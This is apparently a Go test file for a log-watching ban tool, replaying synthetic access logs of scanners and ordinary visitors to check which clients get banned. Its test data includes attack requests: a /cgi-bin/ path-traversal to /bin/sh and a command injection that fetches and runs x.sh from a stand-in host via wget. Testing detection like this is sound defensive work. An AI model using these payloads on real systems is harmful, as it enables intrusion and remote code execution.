package signatures_test

import (
	"cmp"
	"context"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	gocmp "github.com/google/go-cmp/cmp"

	"github.com/logjail/logjail/replay"
	"github.com/logjail/logjail/rules"
)

// TestExampleRules replays, with the embedded example configuration, the
// kinds of attackers issue 18 saw missed or caught late, and ordinary
// visitors beside them, and checks what the probes and panels rules ban
// and after how many of each client's requests:
//
//   - a single-page app answers 200 to every probe: banned at the first;
//   - a slow scanner asks for one /.env variant every two days: banned at
//     the first (1d), and at its first probe after each ban ends (4d,
//     16d);
//   - phpunit's eval-stdin.php 7 times in 10 minutes: banned at the first;
//   - a short exploit burst (/cgi-bin/ traversal, then wget|sh): at the
//     first;
//   - a panel scanner on a site without WordPress (404s): at the first,
//     for an hour;
//   - a visitor who browses pages that look close (/environment/,
//     /.well-known/security.txt, a search for "wget http", /git/), and a
//     WordPress author whose /wp-admin/ answers 401 and 200: never.
func TestExampleRules(t *testing.T) {
	start := time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC)
	type req struct {
		at     time.Duration
		ip     string
		target string
		status int
		ua     string
	}
	const browser = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
	var reqs []req
	add := func(at time.Duration, ip, target string, status int) {
		reqs = append(reqs, req{at, ip, target, status, browser})
	}
	day := 24 * time.Hour
	// The single-page app's prober (answered 200).
	add(0, "203.0.113.10", "/.env", 200)
	add(3*day, "203.0.113.10", "/.git/config", 200)
	// The slow scanner: one /.env variant every two days.
	for i, v := range []string{"/.env", "/.env.bak", "/app/.env", "/.env.production", "/api/.env", "/.env.local", "/.env.old"} {
		add(time.Duration(i)*2*day+time.Hour, "203.0.113.11", v, 404)
	}
	// phpunit 7 times in 10 minutes.
	for i := range 7 {
		add(5*day+time.Duration(i)*90*time.Second, "203.0.113.12", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404)
	}
	// An exploit burst.
	add(6*day, "203.0.113.13", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400)
	add(6*day+time.Second, "203.0.113.13", "/shell?cd+/tmp;wget+http://198.51.100.66/x.sh;sh+x.sh", 404)
	// A panel scanner on a site without WordPress.
	for i, p := range []string{"/wp-login.php", "/xmlrpc.php", "/phpmyadmin/", "/pma/", "/adminer.php"} {
		add(7*day+time.Duration(i)*time.Minute, "203.0.113.14", p, 404)
	}
	// Ordinary visitors: pages that look close, a WordPress author.
	for i, p := range []string{"/", "/environment/", "/.well-known/security.txt", "/search?q=wget+http", "/wp-content/uploads/x.jpg", "/git/", "/products/1", "/actuator/health"} {
		add(time.Duration(i)*day+2*time.Hour, "198.51.100.20", p, 200)
	}
	for i := range 5 {
		add(8*day+time.Duration(i)*time.Minute, "198.51.100.21", "/wp-admin/", 401)
		add(8*day+time.Duration(i)*time.Minute+time.Second, "198.51.100.21", "/wp-admin/edit.php", 200)
	}
	slices.SortStableFunc(reqs, func(a, b req) int { return cmp.Compare(a.at, b.at) })
	var b strings.Builder
	for _, r := range reqs {
		fmt.Fprintf(&b, "%s - - [%s] \"GET %s HTTP/1.1\" %d 512 \"-\" \"%s\"\n", r.ip, start.Add(r.at).Format("02/Jan/2006:15:04:05 -0700"), r.target, r.status, r.ua)
	}
	log := filepath.Join(t.TempDir(), "access.log")
	if err := os.WriteFile(log, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg, err := rules.Parse("example.yaml", rules.Example(), rules.Options{HostAddrs: []netip.Addr{}, Cores: 4})
	if err != nil {
		t.Fatal(err)
	}
	rep, err := replay.Run(context.Background(), cfg, []replay.Input{{Name: log, Source: cfg.Sources[0]}}, replay.Options{})
	if err != nil {
		t.Fatal(err)
	}
	// Requests of each client up to each of its bans by probes or panels.
	var got []string
	for _, d := range rep.Decisions {
		if d.Kind != "ban" || (d.Rule != "probes" && d.Rule != "panels") {
			continue
		}
		n := 0
		for _, r := range reqs {
			if r.ip == d.Key && !start.Add(r.at).After(d.Time) {
				n++
			}
		}
		got = append(got, fmt.Sprintf("%s %s after %d requests for %s", d.Rule, d.Key, n, d.Until.Sub(d.Time)))
		// The reason names the pattern the banning request matched.
		if d.Key == "203.0.113.12" && !strings.Contains(d.Reason, ", signature exploits/composer-vendor (rule probes)") {
			t.Errorf("ban of 203.0.113.12: reason %q does not name the first pattern its request matched", d.Reason)
		}
	}
	want := []string{
		"probes 203.0.113.10 after 1 requests for 24h0m0s",
		"probes 203.0.113.11 after 1 requests for 24h0m0s",
		"probes 203.0.113.11 after 2 requests for 96h0m0s",
		"probes 203.0.113.10 after 2 requests for 96h0m0s",
		"probes 203.0.113.12 after 1 requests for 24h0m0s",
		"probes 203.0.113.13 after 1 requests for 24h0m0s",
		"probes 203.0.113.11 after 4 requests for 384h0m0s",
		"panels 203.0.113.14 after 1 requests for 1h0m0s",
	}
	if diff := gocmp.Diff(want, got); diff != "" {
		t.Errorf("bans by probes and panels (-want +got):\n%s", diff)
	}
}

// TestExampleSampleLogs replays the bundled sample logs with the example
// configuration: the ordinary visitors of access.log (a real Apache log)
// are banned by neither probes nor panels; the probers of bots.log (a
// real nginx log of a site without WordPress) are. Whether each of those
// bans is right is package eval's business: bots.log is the evaluation's
// ployt0 log, whose clients are labelled one by one (TestFigures).
func TestExampleSampleLogs(t *testing.T) {
	cfg, err := rules.Parse("example.yaml", rules.Example(), rules.Options{HostAddrs: []netip.Addr{}, Cores: 4})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		log            string
		probes, panels int
	}{
		{"access.log", 0, 0},
		{"bots.log.gz", 125, 600},
	} {
		t.Run(tc.log, func(t *testing.T) {
			name := filepath.Join("..", "testdata", "logs", "sample", tc.log)
			rep, err := replay.Run(context.Background(), cfg, []replay.Input{{Name: name, Source: cfg.Sources[0]}}, replay.Options{})
			if err != nil {
				t.Fatal(err)
			}
			keys := map[string]map[string]bool{"probes": {}, "panels": {}}
			for _, d := range rep.Decisions {
				if d.Kind == "ban" && keys[d.Rule] != nil {
					keys[d.Rule][d.Key] = true
				}
			}
			if len(keys["probes"]) != tc.probes || len(keys["panels"]) != tc.panels {
				t.Errorf("keys banned: probes %d, panels %d; want %d, %d", len(keys["probes"]), len(keys["panels"]), tc.probes, tc.panels)
			}
		})
	}
}
